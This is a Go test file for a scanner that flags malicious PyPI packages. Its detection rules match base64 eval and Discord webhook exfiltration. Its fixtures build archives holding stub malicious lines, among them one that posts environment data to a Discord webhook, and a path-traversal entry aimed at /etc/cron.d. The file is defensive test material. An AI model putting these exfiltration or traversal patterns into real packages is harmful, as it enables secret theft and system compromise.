package scanner

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"io"
	"log/slog"
	"strings"
	"testing"

	"github.com/vipyrsec/dragonfly.mantissecurity.org/internal/config"
	"github.com/vipyrsec/dragonfly.mantissecurity.org/internal/fetcher"
	"github.com/vipyrsec/dragonfly.mantissecurity.org/internal/registry"
	"github.com/vipyrsec/dragonfly.mantissecurity.org/internal/rules"
)

const testRulesYAML = `
version: "test-1"
rules:
  - id: exec-eval
    name: Eval of dynamic content
    severity: critical
    weight: 90
    patterns:
      - type: substring
        value: "eval(base64"
  - id: webhook-exfil
    name: Webhook exfiltration
    severity: high
    weight: 60
    patterns:
      - type: substring
        value: "discord.com/api/webhooks"
`

func testProvider(t *testing.T) *rules.Provider {
	t.Helper()
	rs, err := rules.ParseRules([]byte(testRulesYAML))
	if err != nil {
		t.Fatalf("failed to compile test rules: %v", err)
	}
	return rules.NewStaticProvider(rs)
}

func makeSdist(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for name, content := range files {
		hdr := &tar.Header{Name: name, Mode: 0o644, Size: int64(len(content))}
		if err := tw.WriteHeader(hdr); err != nil {
			t.Fatalf("failed to write tar header: %v", err)
		}
		if _, err := tw.Write([]byte(content)); err != nil {
			t.Fatalf("failed to write tar content: %v", err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatalf("failed to close tar writer: %v", err)
	}
	if err := gz.Close(); err != nil {
		t.Fatalf("failed to close gzip writer: %v", err)
	}
	return buf.Bytes()
}

type fakeResolver struct {
	dist *registry.ResolvedDistribution
	err  error
}

func (f *fakeResolver) ResolveDistribution(_ context.Context, name, version string) (*registry.ResolvedDistribution, error) {
	if f.err != nil {
		return nil, f.err
	}
	return f.dist, nil
}

type fakeFetcher struct {
	data    []byte
	err     error
	onFetch func()
}

func (f *fakeFetcher) Fetch(_ context.Context, dist *registry.ResolvedDistribution, _ fetcher.Options) (*fetcher.Artifact, error) {
	if f.onFetch != nil {
		f.onFetch()
	}
	if f.err != nil {
		return nil, f.err
	}
	return &fetcher.Artifact{
		Name:         dist.Name,
		Version:      dist.Version,
		Filename:     dist.Filename,
		DeclaredSize: dist.DeclaredSize,
		Bytes:        f.data,
	}, nil
}

func sdistDist(name, version string) *registry.ResolvedDistribution {
	return &registry.ResolvedDistribution{
		Name:        name,
		Version:     version,
		Filename:    fmt.Sprintf("%s-%s.tar.gz", name, version),
		URL:         "https://files.example.invalid/" + name,
		PackageType: "sdist",
	}
}

func newTestScanner(cfg *config.Config, provider *rules.Provider, resolver Resolver, af ArtifactFetcher) *Scanner {
	log := slog.New(slog.NewTextHandler(io.Discard, nil))
	return NewWithClients(cfg, provider, resolver, af, log)
}

func TestScan_FlaggedPackage(t *testing.T) {
	archive := makeSdist(t, map[string]string{
		"evil-1.0.0/setup.py":  "exec(eval(base64.b64decode(payload)))",
		"evil-1.0.0/README.md": "a totally normal package",
	})
	s := newTestScanner(config.Default(), testProvider(t),
		&fakeResolver{dist: sdistDist("evil", "1.0.0")},
		&fakeFetcher{data: archive})

	v, err := s.Scan(context.Background(), PackageReference{Name: "evil"})
	if err != nil {
		t.Fatalf("Scan returned error: %v", err)
	}
	if v.Status != StatusFlagged {
		t.Fatalf("status = %q, want flagged", v.Status)
	}
	if len(v.Matches) != 1 {
		t.Fatalf("matches = %+v, want one", v.Matches)
	}
	m := v.Matches[0]
	if m.RuleID != "exec-eval" || m.Path != "evil-1.0.0/setup.py" {
		t.Errorf("match = %+v", m)
	}
	if v.Score != 90 {
		t.Errorf("score = %d, want 90", v.Score)
	}
	if v.MostMaliciousFile != "evil-1.0.0/setup.py" {
		t.Errorf("most malicious file = %q", v.MostMaliciousFile)
	}
	// The resolver's concrete version flows into the verdict and URLs.
	if v.Version != "1.0.0" {
		t.Errorf("version = %q, want 1.0.0", v.Version)
	}
	if v.InspectorURL != "https://inspector.pypi.io/project/evil/1.0.0/evil-1.0.0/setup.py" {
		t.Errorf("inspector url = %q", v.InspectorURL)
	}
	if v.RulesVersion != "test-1" {
		t.Errorf("rules version = %q", v.RulesVersion)
	}
}

func TestScan_CleanPackage(t *testing.T) {
	archive := makeSdist(t, map[string]string{
		"pkg-1.0.0/setup.py":        "from setuptools import setup\nsetup(name='pkg')",
		"pkg-1.0.0/pkg/__init__.py": "VERSION = '1.0.0'",
	})
	s := newTestScanner(config.Default(), testProvider(t),
		&fakeResolver{dist: sdistDist("pkg", "1.0.0")},
		&fakeFetcher{data: archive})

	v, err := s.Scan(context.Background(), PackageReference{Name: "pkg", Version: "1.0.0"})
	if err != nil {
		t.Fatalf("Scan returned error: %v", err)
	}
	if v.Status != StatusClean {
		t.Fatalf("status = %q, want clean", v.Status)
	}
	if len(v.Matches) != 0 || v.Score != 0 || v.MostMaliciousFile != "" {
		t.Errorf("clean verdict carries match data: %+v", v)
	}
}

func TestScan_NotFound(t *testing.T) {
	s := newTestScanner(config.Default(), testProvider(t),
		&fakeResolver{err: fmt.Errorf("package ghost: %w", registry.ErrNotFound)},
		&fakeFetcher{})

	v, err := s.Scan(context.Background(), PackageReference{Name: "ghost"})
	if err != nil {
		t.Fatalf("Scan returned error: %v", err)
	}
	if v.Status != StatusError || v.Reason != ReasonNotFound {
		t.Errorf("verdict = %q/%q, want error/not_found", v.Status, v.Reason)
	}
}

func TestScan_SizeLimitExceeded(t *testing.T) {
	s := newTestScanner(config.Default(), testProvider(t),
		&fakeResolver{dist: sdistDist("huge", "1.0.0")},
		&fakeFetcher{err: fmt.Errorf("download aborted: %w", fetcher.ErrSizeLimit)})

	v, err := s.Scan(context.Background(), PackageReference{Name: "huge"})
	if err != nil {
		t.Fatalf("Scan returned error: %v", err)
	}
	if v.Status != StatusError || v.Reason != ReasonSizeLimit {
		t.Errorf("verdict = %q/%q, want error/size_limit_exceeded", v.Status, v.Reason)
	}
	if v.Detail == "" {
		t.Error("error verdict must carry detail")
	}
}

func TestScan_FetchTimeout(t *testing.T) {
	s := newTestScanner(config.Default(), testProvider(t),
		&fakeResolver{dist: sdistDist("slow", "1.0.0")},
		&fakeFetcher{err: fetcher.ErrTimeout})

	v, err := s.Scan(context.Background(), PackageReference{Name: "slow"})
	if err != nil {
		t.Fatalf("Scan returned error: %v", err)
	}
	if v.Reason != ReasonFetchTimeout {
		t.Errorf("reason = %q, want fetch_timeout", v.Reason)
	}
}

func TestScan_ExtractionLimit(t *testing.T) {
	archive := makeSdist(t, map[string]string{
		"pkg-1.0.0/bloat.bin": strings.Repeat("A", 4096),
	})
	cfg := config.Default()
	cfg.MaxExtractedBytes = 1024

	s := newTestScanner(cfg, testProvider(t),
		&fakeResolver{dist: sdistDist("pkg", "1.0.0")},
		&fakeFetcher{data: archive})

	v, err := s.Scan(context.Background(), PackageReference{Name: "pkg"})
	if err != nil {
		t.Fatalf("Scan returned error: %v", err)
	}
	if v.Status != StatusError || v.Reason != ReasonExtractionLimit {
		t.Errorf("verdict = %q/%q, want error/extraction_limit_exceeded", v.Status, v.Reason)
	}
}

func TestScan_TraversalEntryDoesNotPoisonScan(t *testing.T) {
	archive := makeSdist(t, map[string]string{
		"../../etc/cron.d/evil": "eval(base64.b64decode(x))",
		"pkg-1.0.0/setup.py":    "requests.post('https://discord.com/api/webhooks/1/t', data=env)",
	})
	s := newTestScanner(config.Default(), testProvider(t),
		&fakeResolver{dist: sdistDist("pkg", "1.0.0")},
		&fakeFetcher{data: archive})

	v, err := s.Scan(context.Background(), PackageReference{Name: "pkg"})
	if err != nil {
		t.Fatalf("Scan returned error: %v", err)
	}
	if v.Status != StatusFlagged {
		t.Fatalf("status = %q, want flagged", v.Status)
	}
	// Only the safely extracted file is matched; the traversal member is
	// reported as a skip diagnostic, never evaluated.
	if len(v.Matches) != 1 || v.Matches[0].RuleID != "webhook-exfil" {
		t.Errorf("matches = %+v, want only webhook-exfil", v.Matches)
	}
	if len(v.SkippedEntries) != 1 {
		t.Errorf("skipped = %+v, want one diagnostic", v.SkippedEntries)
	}
}

func TestScan_EmptyNameRejected(t *testing.T) {
	s := newTestScanner(config.Default(), testProvider(t), &fakeResolver{}, &fakeFetcher{})
	if _, err := s.Scan(context.Background(), PackageReference{Name: "   "}); err == nil {
		t.Fatal("expected error for empty package name")
	}
}

func TestScan_CanceledContext(t *testing.T) {
	s := newTestScanner(config.Default(), testProvider(t),
		&fakeResolver{dist: sdistDist("pkg", "1.0.0")},
		&fakeFetcher{err: context.Canceled})

	v, err := s.Scan(context.Background(), PackageReference{Name: "pkg"})
	if err != nil {
		t.Fatalf("Scan returned error: %v", err)
	}
	if v.Reason != ReasonCanceled {
		t.Errorf("reason = %q, want canceled", v.Reason)
	}
}

func TestScan_ReloadDoesNotAffectInFlightScan(t *testing.T) {
	versions := []string{"v1", "v2"}
	next := 0
	provider, err := rules.NewProvider(func() (*rules.RuleSet, error) {
		rs, err := rules.ParseRules([]byte(testRulesYAML))
		if err != nil {
			return nil, err
		}
		rs.Version = versions[next]
		next++
		return rs, nil
	})
	if err != nil {
		t.Fatalf("NewProvider returned error: %v", err)
	}

	archive := makeSdist(t, map[string]string{
		"pkg-1.0.0/setup.py": "eval(base64.b64decode(x))",
	})
	ff := &fakeFetcher{
		data: archive,
		// Swap the rule set while this scan is between resolve and match.
		onFetch: func() {
			if err := provider.Reload(); err != nil {
				t.Errorf("Reload returned error: %v", err)
			}
		},
	}
	s := newTestScanner(config.Default(), provider,
		&fakeResolver{dist: sdistDist("pkg", "1.0.0")}, ff)

	v, err := s.Scan(context.Background(), PackageReference{Name: "pkg"})
	if err != nil {
		t.Fatalf("Scan returned error: %v", err)
	}
	if v.RulesVersion != "v1" {
		t.Errorf("rules version = %q, want the pre-reload snapshot v1", v.RulesVersion)
	}
	if got := provider.Current().Version; got != "v2" {
		t.Errorf("provider version = %q, want v2 for subsequent scans", got)
	}
}

func TestScan_RepeatedScansAreDeterministic(t *testing.T) {
	files := make(map[string]string, 20)
	for i := 0; i < 20; i++ {
		files[fmt.Sprintf("pkg-1.0.0/m%02d.py", i)] = "eval(base64.b64decode(x))\nrequests.post('https://discord.com/api/webhooks/1/t')"
	}
	archive := makeSdist(t, files)
	s := newTestScanner(config.Default(), testProvider(t),
		&fakeResolver{dist: sdistDist("pkg", "1.0.0")},
		&fakeFetcher{data: archive})

	var first *Verdict
	for i := 0; i < 3; i++ {
		v, err := s.Scan(context.Background(), PackageReference{Name: "pkg"})
		if err != nil {
			t.Fatalf("Scan returned error: %v", err)
		}
		if first == nil {
			first = v
			continue
		}
		if len(v.Matches) != len(first.Matches) {
			t.Fatalf("run %d: matches = %d, want %d", i, len(v.Matches), len(first.Matches))
		}
		for j := range v.Matches {
			if v.Matches[j].RuleID != first.Matches[j].RuleID || v.Matches[j].Path != first.Matches[j].Path {
				t.Fatalf("run %d: match %d = %+v, want %+v", i, j, v.Matches[j], first.Matches[j])
			}
		}
		if v.Score != first.Score || v.MostMaliciousFile != first.MostMaliciousFile {
			t.Fatalf("run %d: score/file = %d/%q, want %d/%q",
				i, v.Score, v.MostMaliciousFile, first.Score, first.MostMaliciousFile)
		}
	}
}
